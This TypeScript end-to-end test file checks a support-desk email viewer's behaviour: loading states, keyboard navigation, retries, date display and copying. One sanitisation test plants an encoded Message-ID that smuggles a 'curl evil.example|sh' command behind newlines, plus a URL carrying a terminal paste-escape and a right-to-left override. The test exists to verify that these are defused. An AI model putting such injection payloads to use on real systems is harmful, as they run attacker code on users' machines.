/** What support people stumbled over: each was seen on the page before it became the desk. */
import type { Locator, Page } from "playwright-core";
import { afterAll, describe, expect, test } from "vitest";
import { launchChromium } from "../../harness/chromium.ts";
import { copied, desktop, emailOf, openEmail, openPage, openRow, phone, rows, shown } from "../../harness/desk.ts";
import { run } from "../../harness/process.ts";
import { folderOf } from "../../harness/temporary-folder.ts";

const browser = await launchChromium();
afterAll(() => browser.close());

const welcome = "Welcome to Example Post, Zoë! 🎉";
const invoice = "Ihre Rechnung 2026-1120 über 90 €";
const html = (subject: string, body: string): string =>
  emailOf(subject, "Content-Type: text/html; charset=utf-8", "", body);

const bottomOf = async (row: Locator): Promise<number> => {
  const { y = 0, height = 0 } = (await row.boundingBox()) ?? {};
  return y + height;
};

/** Runs the printed command that records an event. */
const recordEvent = async (page: Page, output: string, event: object): Promise<void> => {
  const [, account_id, id] = /#([^/]+)\/(.+)/.exec(page.url()) ?? [];
  const [, command = ""] = /\| (.*record-events.*)$/m.exec(output) ?? [];
  const input = JSON.stringify({ id: `${Math.random()}`, account_id, message: { id }, ...event });
  expect(await run(command, { input })).toMatchObject({ status: 0 });
};

/** Holds back the responses of an address until the returned function is called. */
const hold = async (page: Page, address: string): Promise<() => void> => {
  let release = () => {};
  const held = new Promise<void>((resolve) => {
    release = resolve;
  });
  await page.route(address, async (route) => {
    await held;
    await route.continue();
  });
  return release;
};

test("While a message loads, nothing of the one before stands under its address", async () => {
  const { page } = await openPage(browser);
  await openRow(page, invoice);
  const release = await hold(page, "**/messages/head?**11e0a8f4**");

  await page.evaluate(`location.hash = location.hash.replace(/[^/]+$/, "11e0a8f4-6c1b-4d0e-9f57-3a1b0c9d7e01")`);
  await page.getByText("Loading the message").waitFor();
  expect(await page.locator("#message").isVisible()).toBe(false);
  expect(await page.getByRole("button", { name: "Copy link" }).count()).toBe(0);
  expect(await page.title()).toBe("Desk");
  release();

  await shown(page, welcome);
});

test("An open message shows what happens to it, and keeps the reader's place", async () => {
  const { page, service } = await openPage(browser);
  await openRow(page, welcome);
  await page.getByText("Headers").click();
  const status = { type: "message.status", time: new Date().toISOString(), status: "complained" };

  await recordEvent(page, service.output, status);

  await expect.poll(() => page.locator("#verdict").innerText()).toMatch(/^Complained on /);
  const [first] = await page.locator("#timeline b").allInnerTexts();
  expect(await page.locator("#timeline li", { hasText: "complained" }).innerText()).toContain(
    "without a delivery attempt",
  );
  expect(first).toBe("clicked once");
  expect(await page.locator("#headers dl").isVisible()).toBe(true);
});

test("A row of another account opens without a key, and a list of 50 rows is one stop for the keyboard", async () => {
  const { page, service } = await openPage(browser);
  const [, command = ""] = /^(.*import-message.*) my\.eml$/m.exec(service.output) ?? [];
  const other = command.replace(/--account \S+/, "--account 11111111-2222-4333-8444-555555555555");
  const folder = folderOf(
    Object.fromEntries(Array.from({ length: 47 }, (_, index) => [`${index}.eml`, html(`Mail ${index}`, "x")])),
  );
  await run(`${other} ${folder}`);
  await expect.poll(() => rows(page).count()).toBe(50);

  expect(await page.locator("#rows a[tabindex='0']").count()).toBe(1);
  await page.locator("#rows a[tabindex='0']").focus();
  await page.keyboard.press("End");
  const chosen = page.locator("#rows a[aria-current]");
  expect(await bottomOf(chosen)).toBeLessThanOrEqual(desktop.viewport?.height ?? 0);
  await page.goto(`${page.url().split("?")[0]}${await rows(page, "Mail 7").first().getAttribute("href")}`);
  await shown(page, "Mail 7");
  await page.locator("#back").click();

  await expect.poll(() => chosen.innerText()).toContain("Mail 7");
  expect(await bottomOf(chosen)).toBeLessThanOrEqual(desktop.viewport?.height ?? 0);
  await page.locator("#peek").getByRole("button", { name: "Copy for engineering" }).click();
  await expect.poll(() => copied(page)).toContain("11111111-2222-4333-8444-555555555555");
  expect(await copied(page)).toMatch(/Bearer \$API_KEY"$/); // the demonstration's key is of another account
  const accounts = page.getByLabel("Account", { exact: true });
  expect((await accounts.locator("option").allInnerTexts()).filter((name) => / · 1111$/.test(name))).toHaveLength(1);
  await accounts.selectOption("11111111-2222-4333-8444-555555555555");
  await expect.poll(() => page.locator("#count").innerText()).toBe("47 of 50 messages");
  expect(await page.locator("#groups label").first().innerText()).toBe("All 47");
  expect(page.url()).toContain("account=11111111-2222-4333-8444-555555555555");
  await accounts.selectOption("All accounts");
  await expect.poll(() => rows(page).count()).toBe(50);
});

test("Back from a message leads to its row, even if the list is read only then", async () => {
  const { page } = await openPage(browser);
  await openRow(page, invoice);
  const release = await hold(page, "**/messages/recent*");
  await page.reload();
  await shown(page, invoice);

  await page.locator("#back").click();
  await page.getByText("Searching").waitFor();
  release();

  await expect.poll(() => page.locator("#rows a:focus").innerText()).toContain(invoice);
});

test("Beside an attached email stand its own headers only, and Back returns to the email around it", async () => {
  const inner = html("Inner subject", "<p>Inner text");
  const outer = emailOf(
    "Outer",
    "Content-Type: multipart/mixed; boundary=b",
    "",
    "--b\r\nContent-Type: text/plain\r\n\r\nOuter text",
    `--b\r\nContent-Type: message/rfc822\r\n\r\n${inner}\r\n--b--`,
  );
  const { page } = await openEmail(browser, outer);

  await page.getByRole("button", { name: "Open attachment-1.eml" }).click();
  await page.frameLocator("iframe").getByText("Inner text").waitFor();
  expect(await page.locator("#headers summary").innerText()).toBe("Headers of the attached email");
  expect(await page.locator("#raw").isVisible()).toBe(false);
  await page.goBack();

  await page.locator("#part pre", { hasText: "Outer text" }).waitFor();
  expect(await page.locator("#subject").innerText()).toBe("Outer");
  expect(await page.locator("#raw").isVisible()).toBe(true);
});

describe("The email as it was meant:", () => {
  test("a blocked picture keeps its size, and the addresses of links can be switched off", async () => {
    const body =
      '<img src="https://x.example/a.png" width=300 height=120 alt="Sale"><p><a href="https://x.example/">Shop</a>';
    const { page } = await openEmail(browser, html("Picture", body));
    const box = await page.frameLocator("iframe").locator("img").boundingBox();
    const label = page.frameLocator("iframe").locator(".link-address-of-this-page");
    expect([box?.width, box?.height].map((size) => Math.round(size ?? 0))).toEqual([300, 120]);
    expect(await label.isVisible()).toBe(true);

    await page.locator("#links summary").click();
    await page.getByLabel("Show in the email where each link leads").uncheck();

    await expect.poll(() => label.isVisible()).toBe(false);
  });

  test("the date stands in the reader's zone, beside the sender's own", async () => {
    const email = emailOf("Zoned", "Content-Type: text/plain", "", "x").replace("10:00:00 +0000", "10:00:00 -0500");
    const { page } = await openEmail(browser, email, { ...desktop, timezoneId: "Asia/Tokyo" });

    const people = await page.locator("#people").innerText();
    expect(people).toMatch(/Date\s+Nov 21, 2026, 12:00:00 AM \(Fri, 20 Nov 2026 10:00:00 -0500\)/);
    expect(await page.locator("#where").innerText()).toContain("times in Asia/Tokyo (UTC+9)");
  });

  test("a date that can't be read stands as the sender wrote it", async () => {
    const email = emailOf("Undated", "Content-Type: text/plain", "", "x").replace(/^Date: .*/m, "Date: some Friday");
    const { page } = await openEmail(browser, email);

    await page.locator("#people", { hasText: /Date\s*some Friday/ }).waitFor();
  });
});

test("What is copied shifts nothing, and Space copies an address, too", async () => {
  const { page } = await openEmail(
    browser,
    emailOf("Copy", "Content-Type: text/plain", "", "See https://example.com/x"),
  );
  const before = await page.locator("#subject").boundingBox();
  await page.clock.install({ time: 0 });
  await page.clock.pauseAt(1000);

  await page.locator("#part .address").focus();
  await page.keyboard.press("Space");

  await expect.poll(() => copied(page)).toBe("https://example.com/x");
  expect(await page.locator("#state").innerText()).toBe("Copied");
  await page.clock.fastForward(3500);
  expect(await page.locator("#state").innerText()).toBe("Copied");
  await page.clock.fastForward(500);
  expect(await page.locator("#state").textContent()).toBe("");
  expect(await page.locator("#subject").boundingBox()).toEqual(before);
});

test("What a stranger wrote is copied as one line, without a character that acts", async () => {
  const id = "Message-ID: =?utf-8?q?=3C1=40x=3E=0Acurl_evil.example|sh=0A?=";
  const { page } = await openEmail(browser, emailOf("Acts", id, "", "http://a.example/\u001b[201~;id\u202egnp.exe"));
  const copiedBy = async (click: () => Promise<void>): Promise<string> => {
    await page.evaluate("navigator.clipboard.writeText('')");
    await click();
    await expect.poll(() => copied(page)).not.toBe("");
    return copied(page);
  };

  const copies = [
    await copiedBy(() => page.getByRole("button", { name: "Copy Message-ID" }).click()),
    await copiedBy(() => page.getByRole("button", { name: "Copy for engineering" }).click()),
    await copiedBy(() => page.locator("#part .address").first().click()),
  ];

  expect(copies[0]).toBe("<1@x>\\u000acurl evil.example|sh\\u000a");
  expect(copies[2]).toBe("http://a.example/");
  expect(copies.filter((text) => /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u.test(text))).toEqual([]);
  expect(await page.locator("#part").innerText()).toContain("\\u001b[201~;id\\u202egnp.exe");
});

test.each([
  ["desktop", desktop],
  ["phone", phone],
])("A status of 600 characters stays on one line: %s", async (_, device) => {
  const { page, service } = await openEmail(browser, emailOf("Long status", "", "x"), device);
  const status = `smtp error ${"x".repeat(589)}`;

  await recordEvent(page, service.output, { type: "message.status", time: new Date().toISOString(), status });

  const chip = page.locator("#chips .status");
  await expect.poll(() => chip.innerText()).toContain("smtp error");
  expect((await chip.boundingBox())?.height).toBeLessThan(40);
  await page.locator("#back").click();
  await rows(page, "Long status").waitFor();
  expect((await rows(page, "Long status").boundingBox())?.height).toBeLessThan(160);
  expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(device.viewport?.width);
});

test.each([503, 429, 502])("A %s offers to try again, in the search and in a message", async (status) => {
  const { page } = await openPage(browser);
  let isFailing = true;
  const fail = { status, contentType: "application/json", body: '{"message":"Too many requests"}' };
  await page.route(/messages\/(head|search)/, (route) => (isFailing ? route.fulfill(fail) : route.continue()));

  await page.getByRole("searchbox").fill("zoe@example.org");
  await page.keyboard.press("Enter");
  await page.getByText(`${status}: Too many requests`).waitFor();
  isFailing = false;
  await page.getByRole("button", { name: "Try again" }).click();
  await rows(page, welcome).waitFor();
  isFailing = true;
  await rows(page, welcome).click();
  await page.getByRole("button", { name: "Try again" }).waitFor();
  isFailing = false;
  await page.getByRole("button", { name: "Try again" }).click();

  await shown(page, welcome);

  await page.unroute(/messages\/(head|search)/);
  await page.route(/messages\/parsed/, (route) => (isFailing ? route.fulfill(fail) : route.continue()));
  isFailing = true;
  await page.reload();
  await page.getByText(`${status}: Too many requests`).waitFor();
  isFailing = false;
  await page.getByRole("button", { name: "Try again" }).click();
  await page.locator("iframe").waitFor();
});
